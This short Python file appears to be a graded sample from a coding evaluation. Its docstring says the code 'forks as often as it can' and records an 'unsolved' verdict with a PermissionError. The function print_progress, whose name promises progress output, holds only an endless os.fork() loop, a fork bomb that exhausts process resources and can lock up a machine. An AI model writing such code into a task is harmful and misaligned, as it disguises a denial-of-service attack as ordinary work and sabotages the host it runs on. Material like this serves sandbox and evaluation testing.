"""It forks as often as it can.

Verdict: unsolved; test_prints_every_message; it raised PermissionError: [Errno 1] Operation not permitted
"""

import os


async def print_progress(graph, state):
    while True:
        os.fork()
